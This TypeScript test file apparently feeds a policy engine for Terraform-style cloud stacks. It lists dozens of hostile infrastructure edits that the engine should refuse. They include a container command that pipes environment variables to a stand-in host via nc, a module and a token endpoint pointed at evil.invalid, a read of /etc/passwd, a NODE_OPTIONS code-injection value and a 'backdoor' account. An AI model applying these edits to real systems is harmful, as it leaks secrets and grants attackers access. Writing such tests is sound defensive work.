/** Hostile changes of the engine: a refactoring that makes Terraform's documents say more than the declarations. */
import type { Branch, Opens } from "../repository";
import { collected } from "./collect";

const { rows, opens: refused } = collected();
export const engineRequests = rows;

const [identities, secrets, services, vercel] = ["identities", "secrets", "services", "vercel"].map(
  (layer) => `shop-dev-${layer}`,
) as [string, string, string, string];
const says =
  (stack: string, statement: string): Opens =>
  (branch) =>
    branch.document(stack, statement);
const adds = (stack: string, type: string, body = "{}"): Opens =>
  says(stack, `(d.resource["${type}"] ??= {}).added = ${body}`);
const swaps =
  (file: string, from: string, to: string): Opens =>
  (branch) =>
    branch.edit(file, from, to);
const swapsIn =
  (file: string) =>
  (from: string, to: string): Opens =>
    swaps(file, from, to);
const [inBinding, inService] = [swapsIn("constructs/accessor-binding.ts"), swapsIn("constructs/cloud-run-service.ts")];
const [inVariable, inSettings] = [swapsIn("constructs/vercel-variable.ts"), swapsIn("constructs/stack-settings.ts")];
const secret = (name = "SESSION_KEY") => `d.resource.google_secret_manager_secret.${name}`;
const binding = 'd.resource.google_secret_manager_secret_iam_member["MAIL_KEY--shop-mailer"]';
const service = (name = "shop-api") => `d.resource.google_cloud_run_v2_service["${name}"]`;
const env = `${service()}.template.containers[0].env`;
const variable = "d.resource.vercel_project_environment_variable.SESSION_KEY";
const read = "d.ephemeral.google_secret_manager_secret_version.SESSION_KEY";
/** A stack beside the declared ones, as its author would add it. */
const extraStack = `app.synth();
  { const fs = require("node:fs"), { join } = require("node:path"), at = (name: string) => join(app.outdir, "stacks", name, "cdk.tf.json");
    fs.mkdirSync(join(app.outdir, "stacks", "shop-dev-extra"));
    const d = JSON.parse(fs.readFileSync(at("shop-dev-identities"), "utf8")); d.resource = {}; d.terraform.backend.gcs.prefix = "shop-dev-extra";
    fs.writeFileSync(at("shop-dev-extra"), JSON.stringify(d));
    const manifest = join(app.outdir, "manifest.json"), m = JSON.parse(fs.readFileSync(manifest, "utf8"));
    m.stacks["shop-dev-extra"] = { ...m.stacks["shop-dev-identities"], name: "shop-dev-extra" }; fs.writeFileSync(manifest, JSON.stringify(m)); }
`;
const beside = (file: string, text: string): Opens =>
  swaps(
    "main.ts",
    "  app.synth();\n",
    `  app.synth();\n  require("node:fs").writeFileSync(require("node:path").join(app.outdir, "stacks", "${secrets}", "${file}"), ${JSON.stringify(text)});\n`,
  );

refused("undeclared-stack", "adds a stack that nothing declares", swaps("main.ts", "app.synth();\n", extraStack));
refused("other-file", "lays an override beside a document", beside("override.tf.json", '{"resource":{}}'));
refused("other-file", "lays a file of variables beside a document", beside("terraform.tfvars", "a = 1\n"));
refused(
  "duplicate-key",
  "writes a block twice, the second one harmless",
  swaps(
    "main.ts",
    "  app.synth();\n",
    `  app.synth();
  { const fs = require("node:fs"), f = require("node:path").join(app.outdir, "stacks", "${secrets}", "cdk.tf.json");
    fs.writeFileSync(f, fs.readFileSync(f, "utf8").replace('"resource"', '"resource": {}, "resource"')); }
`,
  ),
);
refused(
  "shape",
  "hides a data source in a list",
  says(secrets, 'd.data = [{ external: { run: { program: ["sh"] } } }]'),
);
refused("module", "takes a module", says(secrets, 'd.module = { x: { source: "git::https://evil.invalid/x" } }'));
refused("data", "runs a program while planning", says(secrets, 'd.data = { external: { a: { program: ["sh"] } } }'));
refused(
  "remote-state",
  "reads another stack's state",
  says(secrets, 'd.data = { terraform_remote_state: { a: { backend: "gcs" } } }'),
);
refused("check", "evaluates a check", says(secrets, "d.check = { a: { assert: { condition: true } } }"));
refused(
  "action",
  "runs an action",
  says(secrets, 'd.action = { local_command: { a: { config: { command: "id" } } } }'),
);
refused("other-block", "writes values into outputs", says(vercel, 'd.output = { a: { value: "x" } }'));
refused(
  "import",
  "imports another secret, which the plan would delete",
  says(
    secrets,
    'd.import = { to: "google_secret_manager_secret.MAIL_KEY", id: "projects/acme-shop-dev/secrets/OTHER" }',
  ),
);
refused(
  "moved",
  "moves an account out of a module",
  says(identities, 'd.moved = { from: "module.x.a.b", to: "google_service_account.service-account--shop-api" }'),
);
refused(
  "removed",
  "destroys what nothing declares any more",
  says(services, 'd.removed = { from: "google_cloud_run_v2_service.old", lifecycle: { destroy: true } }'),
);
refused("backend", "shares the state of another stack", inSettings("prefix: props.statePrefix", 'prefix: "state"'));
refused("cloud", "plans in somebody's cloud", says(secrets, 'd.terraform.cloud = { organization: "evil" }'));
refused(
  "terraform-settings",
  "takes an older Terraform",
  inSettings(
    'stack.addOverride("terraform.required_version", TERRAFORM_REQUIRED_VERSION)',
    'stack.addOverride("terraform.required_version", ">= 0.13")',
  ),
);
refused(
  "provider-version",
  "takes a provider of another source",
  swaps("providers/pinned.ts", "hashicorp/google", "evil/google"),
);
refused("provider-version", "adds a provider", (branch) =>
  branch.document(secrets, 'd.terraform.required_providers.http = { source: "hashicorp/http", version: "3.4.0" }'),
);
refused(
  "provider-settings",
  "sends tokens to another endpoint",
  inSettings(
    "    region: props.region,\n",
    '    region: props.region,\n    secretManagerCustomEndpoint: "https://evil.invalid/v1/",\n',
  ),
);
refused(
  "provider-settings",
  "impersonates another identity",
  inSettings(
    "    region: props.region,\n",
    '    region: props.region,\n    impersonateServiceAccount: "strongroom-deliver@acme-platform-dev.iam.gserviceaccount.com",\n',
  ),
);
refused("provider-alias", "configures a provider twice", says(secrets, 'd.provider.google.push({ project: "other" })'));
refused("keeps-values", "keeps a value in the state", adds(secrets, "terraform_data", '{ input: "x" }'));
refused("secret-version", "puts a value into Terraform", adds(secrets, "google_secret_manager_secret_version"));
refused("wide-access", "gives a role on the whole project", adds(secrets, "google_project_iam_member"));
refused("wide-access", "replaces the policy of a secret", adds(secrets, "google_secret_manager_secret_iam_policy"));
refused("wide-access", "touches a deny policy", adds(secrets, "google_iam_deny_policy"));
refused("resource-type", "makes a key of an account", adds(identities, "google_service_account_key"));
refused(
  "layer",
  "grants and runs in one stack",
  says(
    secrets,
    'const fs = require("node:fs"); d.resource.google_service_account = JSON.parse(fs.readFileSync(f.replace("secrets", "identities"), "utf8")).resource.google_service_account',
  ),
);
refused(
  "provisioner",
  "runs a program while applying",
  says(secrets, `${secret()}.provisioner = { "local-exec": {} }`),
);
refused(
  "argument",
  "lets everybody call a service",
  inService("        name: props.name,\n", "        name: props.name,\n        invoker_iam_disabled: true,\n"),
);
refused(
  "argument",
  "runs another program in the container",
  inService(
    "              image: props.image,\n",
    '              image: props.image,\n              command: ["sh", "-c", "env | nc evil.invalid 1"],\n',
  ),
);
refused("lifecycle", "ignores who has access", says(secrets, `${binding}.lifecycle = { ignore_changes: ["member"] }`));
refused(
  "foreign-project",
  "binds in another product's project",
  says(secrets, `${binding}.project = "acme-vault-dev"`),
);
refused(
  "ephemeral-type",
  "makes a token while planning",
  says(vercel, "d.ephemeral.google_service_account_access_token = { a: {} }"),
);
refused(
  "ephemeral-read",
  "reads a value while planning",
  swaps(
    "constructs/ephemeral-secret-version.ts",
    'version: `\\${timestamp() == "" ? "0" : "${props.version}"}`',
    "version: props.version",
  ),
);
refused(
  "expression",
  "reads a file of the machine into an annotation",
  says(secrets, `${secret()}.annotations.purpose = '\${file("/etc/passwd")}'`),
);
refused(
  "literal-for-secret",
  "gives a service the value of a secret",
  says(services, `${env}.splice(1, 1, { name: "SESSION_KEY", value: "hunter2" })`),
);
refused(
  "undeclared-literal",
  "gives a service a variable that runs code",
  says(services, `${env}.push({ name: "NODE_OPTIONS", value: "--require /tmp/x" })`),
);
refused(
  "secret-in-text",
  "writes a key into an annotation",
  says(secrets, `${secret()}.annotations.purpose = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"`),
);
refused(
  "unpinned",
  "delivers without the number of a version",
  inVariable("value_wo_version: Number(variable.version)", 'value_wo_version: "latest"'),
);
refused(
  "unpinned undeclared-read",
  "maps the latest version",
  inService("version: variable.version } }", 'version: "latest" } }'),
);
refused(
  "role",
  "binds an admin in place of an accessor",
  inBinding("role: props.role", 'role: "roles/secretmanager.admin"'),
);
refused("public-accessor", "binds everybody", says(secrets, `${binding}.member = "allAuthenticatedUsers"`));
refused(
  "undeclared-accessor",
  "binds somebody else",
  inBinding("member: props.member", 'member: "user:eve@evil.invalid"'),
);
refused(
  "undeclared-accessor",
  "lets grants last",
  inBinding("props.until === null ? undefined : expiry(props.until)", "undefined"),
);
refused(
  "undeclared-identity",
  "runs services as the project's default account",
  inService("          service_account: props.serviceAccount,\n", ""),
);
refused("exposure", "opens internal services", inService("ingress: INGRESS[props.ingress]", "ingress: INGRESS.all"));
refused("container", "runs another image", inService("image: props.image", 'image: "evil.invalid/x"'));
refused(
  "undeclared-read",
  "maps another secret",
  says(services, `${env}[1].value_source.secret_key_ref.secret = "MAIL_KEY"`),
);
refused("undeclared-read", "delivers another secret", says(vercel, `${read}.secret = "STRIPE_KEY"`));
refused(
  "undeclared-target",
  "delivers to another project",
  inVariable("project_id: props.projectId", 'project_id: "prj_evil"'),
);
refused(
  "undeclared-target",
  "delivers to previews too",
  says(vercel, `${variable}.target = ["development", "preview"]`),
);
refused("undeclared-resource", "makes an account that nobody declares", (branch: Branch) =>
  branch.document(
    identities,
    'd.resource.google_service_account.backdoor = { ...d.resource.google_service_account["service-account--shop-api"], account_id: "backdoor" }',
  ),
);
refused(
  "protection",
  "takes the protection of all secrets away",
  swaps("constructs/secret-entry.ts", "deletion_protection: props.deletionProtection", "deletion_protection: false"),
);
refused("not-retired", "drops a service", says(services, `delete ${service("shop-mailer")}`));
refused("protected-deletion", "drops a protected service", (branch) =>
  branch.document("shop-prod-services", `delete ${service("shop-mailer")}`),
);
refused(
  "replacement",
  "stores a secret elsewhere, which replaces it",
  says(secrets, `${secret()}.replication = { user_managed: { replicas: [{ location: "us-east1" }] } }`),
);
